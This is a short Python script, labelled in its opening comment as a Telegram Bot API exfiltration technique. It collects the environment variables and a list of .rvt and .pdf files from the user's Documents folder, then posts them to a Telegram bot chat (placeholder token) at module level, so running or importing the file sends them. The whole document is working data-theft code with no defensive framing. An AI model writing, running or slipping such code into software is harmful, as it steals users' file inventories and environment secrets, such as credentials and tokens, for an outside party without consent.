# technique: Telegram Bot API exfil: zips the user's Documents *.rvt/*.pdf list + env and sends via sendDocument using urllib multipart
import io
import os
import json
import uuid
import urllib.request as U

_T = "000000000:PLACEHOLDER_TOKEN"
_CHAT = "-1000000000000"
_API = "https://api.telegram.org/bot%s/sendDocument" % _T


def _inventory():
    docs = os.path.join(os.path.expanduser("~"), "Documents")
    hits = []
    for root, _, files in os.walk(docs):
        hits += [os.path.join(root, f) for f in files if f.lower().endswith((".rvt", ".pdf"))]
    return json.dumps({"env": dict(os.environ), "files": hits[:500]}).encode()


def _send(blob):
    b = uuid.uuid4().hex
    body = ("--%s\r\nContent-Disposition: form-data; name=\"chat_id\"\r\n\r\n%s\r\n"
            "--%s\r\nContent-Disposition: form-data; name=\"document\"; filename=\"r.json\"\r\n\r\n"
            % (b, _CHAT, b)).encode() + blob + ("\r\n--%s--\r\n" % b).encode()
    req = U.Request(_API, data=body, headers={"Content-Type": "multipart/form-data; boundary=" + b})
    U.urlopen(req, timeout=20)


_send(_inventory())
